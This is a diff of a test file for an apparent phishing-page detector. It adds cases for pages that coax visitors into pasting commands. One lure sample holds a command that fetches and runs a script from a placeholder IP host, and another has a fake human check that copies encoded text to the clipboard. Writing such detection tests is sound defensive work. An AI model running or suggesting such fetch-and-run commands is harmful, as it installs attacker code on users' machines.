@@ -20,8 +20,8 @@ describe("the judgement of labelled pages", () => {
   const all = results([...TUNED, ...ASIDE]);
   const ofBrands = results(SOME);
 
-  it("calls no page phishing that is not, of 132 and of six for each brand", () => {
-    expect(all.filter(({ isPhishing }) => !isPhishing)).toHaveLength(132);
+  it("calls no page phishing that is not, of 136 and of six for each brand", () => {
+    expect(all.filter(({ isPhishing }) => !isPhishing)).toHaveLength(136);
     const wrong = [...all, ...ofBrands].filter(({ isPhishing, isMalicious }) => !isPhishing && isMalicious);
     expect(wrong.map(({ kind, url, reasons }) => ({ kind, url, reasons }))).toEqual([]);
   });
@@ -251,7 +251,15 @@ describe("reasons", () => {
     });
     const manual = "<h1>Install</h1><p>Copy this line into your shell.</p>";
     const install = copy("curl -sSf https://sh.sample.org | sh");
-    for (const body of [manual + install, lure, lure + copy("winget --version"), `${lure}<pre>${fake}</pre>`])
+    const mac = `<p>Press Command + Space, type Terminal and press Return. Paste to verify: <code>/bin/bash -c "$(curl http://203.0.113.4/i.sh)"</code></p>`;
+    // What is copied may be encoded, or stand in the text.
+    const encoded = `<p>Verify you are human: press and hold the Windows key, then R, then Ctrl + V and Enter.</p><script>copy(atob("cG93"))</script>`;
+    for (const body of [lure, lure + copy("winget --version"), `${lure}<pre>${fake}</pre>`, mac, encoded])
+      expect(rules(phish("", "https://b-sample.com/", { title: "", body }))).toContain("pastes a command");
+    const about =
+      "<p>Never paste what a page gives you: Win + R and Ctrl + V to prove that you are human is a scam.</p>";
+    const shortcuts = "<p>Open a terminal with Ctrl + Alt + T. Copy with Ctrl + C, paste with Ctrl + V.</p>";
+    for (const body of [manual + install, about, shortcuts])
       expect(rules(benign("", "https://b-sample.com/", { title: "", body }))).not.toContain("pastes a command");
   });
 
@@ -311,9 +319,6 @@ describe("reasons", () => {
     expect(rules(phish("", "https://a-sample.com/", harmless, hidden))).toEqual(
       expect.arrayContaining(["hidden log-in", "cloaking"]),
     );
-    const hiddenTitle = "Sign in to your Microsoft account";
-    const disguised = judged(phish("", "https://a-sample.com/", harmless, { known: { ...hidden.known, hiddenTitle } }));
-    expect([disguised.brand, disguised.isMalicious]).toEqual(["Microsoft", true]);
     expect(rules(phish("", "https://a-sample.com/", page, { known: { faviconSeenAt: ["www.paypal.com"] } }))).toContain(
       "brand's favicon",
     );
